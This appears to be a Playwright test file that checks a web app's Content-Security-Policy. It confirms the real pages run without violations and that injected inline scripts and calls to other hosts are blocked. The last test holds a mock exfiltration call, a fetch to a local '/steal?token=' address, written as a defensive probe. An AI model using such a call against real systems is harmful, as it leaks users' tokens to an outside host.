import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { useProductStack } from './support/harness';
import {
  loginThroughApi,
  registerThroughApi,
  saveSession,
  type TestAccount,
} from './support/accounts';
import { collectPageErrors, VIEWPORTS } from './support/browser';
import { operator } from './support/operator';
import { API_URL, WEB_URL } from './support/stack';

/**
 * The production build's Content-Security-Policy (src/app/contentSecurityPolicy.ts): the real
 * pages run under it without a single violation, and it really stops what it is for — inline
 * scripts and calls to hosts other than the configured API and market feed.
 */
let account: TestAccount;
const product = useProductStack({
  setup: async () => {
    account = await registerThroughApi('Policy Tester', 'csp');
    await operator('verify-user', account.email);
  },
});

interface Violation {
  directive: string;
  blocked: string;
}

/** Records every CSP violation the page reports, from its first script on. */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { cspViolations: typeof seen }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
  return () =>
    page.evaluate(() => (window as unknown as { cspViolations: Violation[] }).cspViolations);
}

test('index.html declares the policy and carries no inline script', async () => {
  const html = await (await fetch(`${WEB_URL}/`)).text();
  const policy = /http-equiv="?Content-Security-Policy"? content="([^"]+)"/.exec(html)?.[1];
  assert.ok(policy, 'a Content-Security-Policy meta tag');
  assert.match(policy, /script-src 'self';/);
  assert.match(policy, new RegExp(`connect-src 'self' ${API_URL}`));
  const scripts = html.match(/<script\b[^>]*>/g) ?? [];
  assert.ok(scripts.length > 0);
  for (const tag of scripts) assert.match(tag, /\bsrc=/, `external, not inline: ${tag}`);
});

for (const [width, viewport] of Object.entries(VIEWPORTS)) {
  test(`at ${width} width the home page and the dashboard run without a violation`, async () => {
    // Its own context, without the market relay: the page's real connections meet the policy.
    const context = await product.browser.newContext({ viewport });
    const page = await context.newPage();
    const errors = collectPageErrors(page);
    const violations = await recordViolations(page);

    await page.goto(`${WEB_URL}/`);
    await page.getByRole('rowheader', { name: /Bitcoin/ }).waitFor();
    assert.deepEqual(await violations(), [], 'home');

    await saveSession(page, await loginThroughApi(account));
    const stream = page.waitForEvent('websocket');
    await page.goto(`${WEB_URL}/dashboard`);
    await page.getByRole('group', { name: 'Total Deposits' }).locator('p').waitFor();
    // The market widgets have drawn from the feed and the ticker stream delivers.
    await page.locator('canvas').first().waitFor();
    await (await stream).waitForEvent('framereceived');
    assert.deepEqual(await violations(), [], 'dashboard');
    assert.deepEqual(errors, []);
    await context.close();
  });
}

test('an injected inline script does not run and a call to another host is refused', async () => {
  const page = await product.browser.newPage();
  const violations = await recordViolations(page);
  await page.goto(`${WEB_URL}/`);
  await page.getByRole('heading', { level: 1 }).waitFor();

  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injectedScriptRan = true;';
    document.body.append(script);
    let elsewhere = 'answered';
    try {
      await fetch('http://127.0.0.1:9/steal?token=x');
    } catch {
      elsewhere = 'refused';
    }
    return {
      injectedScriptRan: (window as unknown as { injectedScriptRan?: boolean }).injectedScriptRan,
      elsewhere,
    };
  });
  assert.equal(outcome.injectedScriptRan, undefined);
  assert.equal(outcome.elsewhere, 'refused');
  const directives = (await violations()).map((violation) => violation.directive).sort();
  assert.deepEqual(directives, ['connect-src', 'script-src-elem']);
  await page.close();
});
